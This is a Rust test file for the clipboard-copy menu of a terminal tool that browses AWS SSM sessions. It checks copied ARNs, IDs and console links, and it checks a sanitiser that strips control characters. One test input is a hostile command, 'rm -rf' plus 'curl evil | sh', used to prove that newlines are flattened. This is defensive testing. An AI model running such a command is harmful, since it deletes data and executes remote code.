#![allow(clippy::unwrap_used, clippy::panic)]

use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use jiff::Timestamp;
use proptest::prelude::*;

use super::*;
use crate::app::{
    Effect, Message,
    fixture::{at, scope, state},
    overlay::Overlay,
    update,
};

fn press(state: &mut State, code: KeyCode, now: Timestamp) -> Vec<Effect> {
    update(state, Message::Key(KeyEvent::new(code, KeyModifiers::NONE)), now)
}

fn copied(effects: &[Effect]) -> Option<&str> {
    effects.iter().find_map(|effect| match effect {
        Effect::Copy(clip) => Some(clip.as_str()),
        _ => None,
    })
}

#[test]
fn the_letter_copies_directly_and_the_second_press_copies_the_first() {
    let mut world = state(&["jane-1"]);
    press(&mut world, KeyCode::Char('g'), at(1));
    for (keys, wanted) in [
        ("yi", "jane-1"),
        ("yy", "jane-1"),
        ("y\n", "jane-1"),
        ("yj\n", "arn:aws:sts::111122223333:assumed-role/Ops/jane"),
        ("yo", "arn:aws:sts::111122223333:assumed-role/Ops/jane"),
        ("ys", "arn:aws:ssm:eu-central-1:111122223333:session/jane-1"),
        ("yn", "i-0a1b2c3d4e5f67890"),
        ("ya", "111122223333"),
        (
            "yl",
            "https://eu-central-1.console.aws.amazon.com/systems-manager/session-manager/sessions?region=eu-central-1",
        ),
    ] {
        let mut effects = Vec::new();
        for key in keys.chars() {
            let now = world.now + jiff::SignedDuration::from_secs(1);
            let code = if key == '\n' { KeyCode::Enter } else { KeyCode::Char(key) };
            effects = press(&mut world, code, now);
        }
        assert_eq!(copied(&effects), Some(wanted), "{keys}");
        assert!(world.view.overlay.is_none());
        assert!(world.view.notice.as_ref().unwrap().text.contains("OSC 52"));
    }
}

#[test]
fn other_keys_do_nothing_below_and_escape_closes() {
    let mut world = state(&["jane-1"]);
    press(&mut world, KeyCode::Char('g'), at(1));
    press(&mut world, KeyCode::Char('y'), at(2));
    for key in ['t', 'x', 'z', '2', '?'] {
        assert!(press(&mut world, KeyCode::Char(key), at(3)).is_empty());
    }
    assert!(world.view.dialog.is_none() && world.view.help.is_none() && world.view.screen == Screen::Sessions);
    assert!(matches!(world.view.overlay, Some(Overlay::Copy(_))));
    press(&mut world, KeyCode::Esc, at(4));
    assert!(world.view.overlay.is_none());
}

#[test]
fn what_is_copied_is_what_the_menu_was_opened_on() {
    let mut world = state(&["jane-1", "jane-2"]);
    press(&mut world, KeyCode::Char('g'), at(1));
    let on = world.view.table.list.selected.clone().unwrap();
    press(&mut world, KeyCode::Char('y'), at(2));
    let other = world.view.table.list.rows.iter().find(|key| **key != on).cloned();
    world.view.table.list.selected = other;
    assert_eq!(copied(&press(&mut world, KeyCode::Char('i'), at(3))), Some(on.id.as_str()));
}

#[test]
fn a_scope_has_its_account_region_and_link() {
    let mut world = state(&["jane-1"]);
    press(&mut world, KeyCode::Char('5'), at(1));
    press(&mut world, KeyCode::Char('g'), at(2));
    let scope = world.view.scopes.selected.clone().unwrap();
    press(&mut world, KeyCode::Char('y'), at(3));
    assert_eq!(copied(&press(&mut world, KeyCode::Char('r'), at(4))), Some(scope.region.as_str()));
}

#[test]
fn nothing_selected_is_said() {
    let mut world = state(&[]);
    press(&mut world, KeyCode::Char('y'), at(1));
    assert!(world.view.overlay.is_none() && world.view.notice.as_ref().unwrap().bad);
}

#[test]
fn every_partition_has_its_arn_and_its_console() {
    let arn = |region: &str| session_arn(&scope().account, &Region::new(region), "x-1");
    assert!(arn("cn-north-1").starts_with("arn:aws-cn:ssm:cn-north-1:"));
    assert!(arn("us-gov-west-1").starts_with("arn:aws-us-gov:ssm:us-gov-west-1:"));
    let link = |region: &str| console_link(&Region::new(region), "sessions");
    assert!(link("cn-north-1").starts_with("https://cn-north-1.console.amazonaws.cn/"));
    assert!(link("us-gov-west-1").starts_with("https://us-gov-west-1.console.amazonaws-us-gov.com/"));
}

#[test]
fn what_is_too_long_is_refused_and_never_cut() {
    assert!(Clip::new(&"x".repeat(MOST_BYTES)).is_some());
    assert!(Clip::new(&"x".repeat(MOST_BYTES + 1)).is_none());
    assert_eq!(Clip::new("rm -rf /tmp/x\ncurl evil | sh\r\n").unwrap().as_str(), "rm -rf /tmp/x curl evil | sh");
    assert!(Clip::new("\u{1b}\u{7}\n\u{200b}").is_none());
}

proptest! {
    #[test]
    fn nothing_that_is_copied_steers_a_terminal_or_a_shell(text in any::<String>()) {
        if let Some(clip) = Clip::new(&text) {
            prop_assert!(clip.as_str().chars().all(|c| !c.is_control() && !is_hidden(c)));
            prop_assert!(clip.as_str().len() <= MOST_BYTES);
        }
    }
}
